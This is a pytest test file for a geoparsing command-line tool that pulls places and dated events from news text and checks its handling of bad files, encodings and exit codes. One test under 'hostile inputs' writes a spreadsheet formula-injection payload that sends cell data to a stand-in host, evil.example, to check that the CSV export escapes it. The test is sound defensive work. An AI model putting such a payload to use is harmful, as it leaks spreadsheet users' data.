"""`python -m geo parse` and `python -m geo toponyms`: formats, order, bad files, exit codes."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from geo import ROOT, SEEDS_DIR
from geo.article import SEED_STEM, load_seed_article
from geo.cli import main

SEED = SEEDS_DIR / f"{SEED_STEM}.txt"


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    """Good and bad inputs: text, missing, binary, Latin-1, empty, a directory."""
    made = {
        "good": tmp_path / "good.txt",
        "missing": tmp_path / "missing.txt",
        "binary": tmp_path / "image.png",
        "latin1": tmp_path / "latin1.txt",
        "empty": tmp_path / "empty.txt",
        "dir": tmp_path / "folder",
    }
    made["good"].write_text("Clashes erupted in Tripoli, Lebanon, on Tuesday.\n", encoding="utf-8")
    made["binary"].write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    made["latin1"].write_bytes("Rebels fled Homs for Baalbek, caf\xe9 closed.".encode("latin-1"))
    made["empty"].write_bytes(b"")
    made["dir"].mkdir()
    return made


# --- toponyms -------------------------------------------------------------------------


def test_toponyms_one_line_per_file_in_input_order(capsys, files) -> None:
    order = ["good", "missing", "binary", "latin1", "empty", "dir", "good"]
    argv = [str(files[k]) for k in order]
    code, out, err = run(capsys, "toponyms", *argv)
    lines = [json.loads(line) for line in out.splitlines()]
    assert [r["file"] for r in lines] == argv  # paths as given, in input order
    assert code == 1  # some files failed
    assert "Traceback" not in err
    good = lines[0]
    assert set(good) == {"file", "toponyms"}
    names = [t["text"] for t in good["toponyms"]]
    assert names == ["Tripoli", "Lebanon"]
    tripoli = good["toponyms"][0]
    assert set(tripoli) == {"text", "start", "end", "name", "lat", "lon", "country_code",
                            "score"}
    assert (tripoli["start"], tripoli["end"], tripoli["country_code"]) == (19, 26, "LB")
    assert lines[6] == good  # the same file twice gives the same answer
    for k, i in (("missing", 1), ("binary", 2), ("latin1", 3), ("dir", 5)):
        assert set(lines[i]) == {"file", "error"} and lines[i]["error"], k
    assert "no such file" in lines[1]["error"]
    assert "binary" in lines[2]["error"]
    assert "UTF-8" in lines[3]["error"]
    assert "directory" in lines[5]["error"]
    assert lines[4] == {"file": str(files["empty"]), "toponyms": []}


def test_toponyms_exit_code_zero_when_all_files_parse(capsys, files) -> None:
    code, out, _ = run(capsys, "toponyms", str(files["good"]), str(SEED))
    assert code == 0
    seed = json.loads(out.splitlines()[1])
    text = SEED.read_text(encoding="utf-8")
    assert len(seed["toponyms"]) > 50
    for t in seed["toponyms"]:
        assert text[t["start"]:t["end"]] == t["text"]


def test_toponyms_in_a_subprocess_no_traceback(files) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "geo", "toponyms", str(files["binary"]), str(files["good"])],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    lines = [json.loads(line) for line in proc.stdout.splitlines()]
    assert "error" in lines[0] and lines[1]["toponyms"]


# --- parse ----------------------------------------------------------------------------


def test_parse_seed_geojson(capsys) -> None:
    code, out, _ = run(capsys, "parse", str(SEED))  # published from the .json beside it
    assert code == 0
    doc = json.loads(out)
    assert doc["type"] == "FeatureCollection" and doc["features"]
    place_ids = set()
    for f in doc["features"]:
        lon, lat = f["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        props = f["properties"]
        assert props["start"] <= props["end"] <= "2013-06-05"
        place_ids.add(props["place_id"])
    assert {"qusayr", "dabaa", "buweida-sharqiya", "dahiyeh"} <= place_ids
    qusayr = next(f for f in doc["features"] if f["properties"]["place_id"] == "qusayr")
    assert qusayr["geometry"]["coordinates"][0] > 36  # longitude first (RFC 7946)


def test_parse_csv_with_published(capsys, files) -> None:
    code, out, _ = run(capsys, "parse", str(files["good"]), "--published", "2013-06-05",
                       "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    # Lebanon is Tripoli's country here, not a second place of the event.
    assert {r["place_id"] for r in rows} == {"tripoli-lb"}
    for r in rows:
        assert r["start"] == "2013-06-04"  # "on Tuesday", the day before a Wednesday
        assert r["date_phrase"] == "Tuesday"


def test_parse_writes_output_file(capsys, files, tmp_path) -> None:
    out_file = tmp_path / "events.geojson"
    code, out, err = run(capsys, "parse", str(files["good"]), "--published", "2013-06-05",
                         "--output", str(out_file))
    assert code == 0 and out == "" and "written" in err
    assert json.loads(out_file.read_text(encoding="utf-8"))["type"] == "FeatureCollection"


def test_parse_without_publication_date_says_how_to_give_one(capsys, files) -> None:
    code, out, err = run(capsys, "parse", str(files["good"]))
    assert code == 2 and out == ""
    assert "--published" in err and "good.json" in err


def test_parse_reads_the_metadata_beside_the_file(capsys, files) -> None:
    files["good"].with_suffix(".json").write_text(
        json.dumps({"published": "2013-06-12", "title": "T", "outlet": "Daily Test"}),
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "parse", str(files["good"]), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(r["start"] == "2013-06-11" for r in rows)
    assert all(r["reported_by"] == "Daily Test" for r in rows)
    # --published wins over the metadata.
    _, out, _ = run(capsys, "parse", str(files["good"]), "--format", "csv",
                    "--published", "2013-06-05")
    assert all(r["start"] == "2013-06-04" for r in csv.DictReader(io.StringIO(out)))


@pytest.mark.parametrize("bad", ["missing", "binary", "latin1", "dir"])
def test_parse_bad_file_is_an_error_not_a_traceback(capsys, files, bad) -> None:
    code, out, err = run(capsys, "parse", str(files[bad]), "--published", "2013-06-05")
    assert code == 1 and out == ""
    assert err.startswith("parse: cannot parse") and "Traceback" not in err


def test_parse_bad_metadata(capsys, files) -> None:
    files["good"].with_suffix(".json").write_text("{not json", encoding="utf-8")
    code, _, err = run(capsys, "parse", str(files["good"]))
    assert code == 1 and "metadata" in err


def test_parse_empty_file_is_refused(capsys, files) -> None:
    code, out, err = run(capsys, "parse", str(files["empty"]), "--published", "2013-06-05",
                         "--format", "csv")  # fmt: skip
    assert (code, out) == (1, "") and "empty" in err


def test_parse_bad_date_is_a_usage_error(capsys, files) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["parse", str(files["good"]), "--published", "2013-13-01"])
    assert exc.value.code == 2
    assert "not a date" in capsys.readouterr().err


def test_toponyms_refuses_utf16_devices_and_huge_files(capsys, files, monkeypatch) -> None:
    import geo.commands.toponyms as command

    utf16 = files["good"].with_name("utf16.txt")
    utf16.write_text("Clashes in Homs.", encoding="utf-16")
    monkeypatch.setattr(command, "MAX_BYTES", 40)
    big = files["good"].with_name("big.txt")
    big.write_text("Clashes in Homs went on and on, day after day.", encoding="utf-8")
    code, out, err = run(capsys, "toponyms", str(utf16), "/dev/zero", str(big),
                         str(files["empty"]))
    lines = [json.loads(line) for line in out.splitlines()]
    assert code == 1 and "Traceback" not in err
    assert "UTF-16" in lines[0]["error"]
    assert "not a regular file" in lines[1]["error"]  # would never end if read
    assert "too large" in lines[2]["error"]
    assert lines[3]["toponyms"] == []


@pytest.mark.slow
def test_parse_one_megabyte_in_bounded_time(capsys, tmp_path) -> None:
    import time

    body = load_seed_article().body + "\n\n"  # not the reader's comment: it ends the body
    big = tmp_path / "big.txt"
    big.write_text(body * (1_000_000 // len(body) + 1), encoding="utf-8")
    t0 = time.process_time()  # CPU time: a busy machine must not fail it
    code, out, _ = run(capsys, "parse", str(big), "--published", "2013-06-05",
                       "--format", "csv")
    elapsed = time.process_time() - t0
    print(f"\nparse of 1 MB: {elapsed:.1f} s of CPU")
    assert code == 0 and len(out.splitlines()) > 1000
    assert elapsed < 60  # about 5 s here; a scan per sentence made it minutes


def test_toponyms_loads_the_geoparser_once(capsys, files, monkeypatch) -> None:
    import geo.geoparse.toponyms as toponyms

    made = []
    real = toponyms.Geoparser

    def counting(*args, **kwargs):
        made.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(toponyms, "Geoparser", counting)
    code, out, _ = run(capsys, "toponyms", *[str(files["good"])] * 5, str(files["missing"]))
    assert code == 1 and len(out.splitlines()) == 6
    assert len(made) == 1  # one gazetteer and model for all the files
    code, out, _ = run(capsys, "toponyms", str(files["missing"]), str(files["binary"]))
    assert len(made) == 1  # nothing readable: nothing loaded


# --- issue 9: hostile and odd inputs --------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"   \n\t\r\n  ", b"\xef\xbb\xbf  \n"])
def test_parse_refuses_an_empty_file_with_a_message(capsys, tmp_path, content) -> None:
    path = tmp_path / "blank.txt"
    path.write_bytes(content)
    code, out, err = run(capsys, "parse", str(path), "--published", "2013-06-05")
    assert code == 1 and out == ""
    assert "empty" in err and str(path) in err


def test_parse_drops_a_bom_from_title_and_excerpt(capsys, tmp_path) -> None:
    path = tmp_path / "bom.txt"
    path.write_bytes(b"\xef\xbb\xbfThe army shelled Homs on Monday.\n")
    code, out, _ = run(capsys, "parse", str(path), "--published", "2013-06-05",
                       "--format", "csv")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and rows
    assert all(not r["excerpt"].startswith("\ufeff") for r in rows)
    assert rows[0]["excerpt"].startswith("The army")
    geojson = run(capsys, "parse", str(path), "--published", "2013-06-05", "--format", "kml")[1]
    assert "\ufeff" not in geojson  # the KML's name holds the title


def test_parse_writes_spreadsheet_safe_csv(capsys, tmp_path) -> None:
    path = tmp_path / "formula.txt"
    path.write_text(
        'Headline\n\n=HYPERLINK("http://evil.example/?d="&A2,"open")&" Rebels were fighting '
        'in Homs" on Monday.\n',
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "parse", str(path), "--published", "2013-06-05",
                       "--format", "csv")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and rows
    assert all(not r["excerpt"].startswith("=") for r in rows)
    assert any(r["excerpt"].startswith("'=HYPERLINK") for r in rows)


@pytest.mark.parametrize(
    ("published", "phrase"), [("9999-12-31", "tomorrow"), ("0001-01-01", "yesterday")]
)
def test_parse_at_the_ends_of_the_calendar_has_no_traceback(capsys, tmp_path, published,
                                                             phrase) -> None:  # fmt: skip
    path = tmp_path / "edge.txt"
    path.write_text(f"Fighting in Homs {phrase}.\n", encoding="utf-8")
    code, out, err = run(capsys, "parse", str(path), "--published", published,
                         "--format", "csv")  # fmt: skip
    assert code == 0 and "Traceback" not in err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert all(len(r["start"]) == 10 for r in rows)


def test_parse_writes_four_digit_years(capsys, tmp_path) -> None:
    path = tmp_path / "monday.txt"
    path.write_text("The army shelled Homs on Monday.\n", encoding="utf-8")
    code, out, _ = run(capsys, "parse", str(path), "--published", "0001-01-01",
                       "--format", "csv")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and rows
    assert rows[0]["start"] == "0001-01-01" and rows[0]["end"] == "0001-01-01"
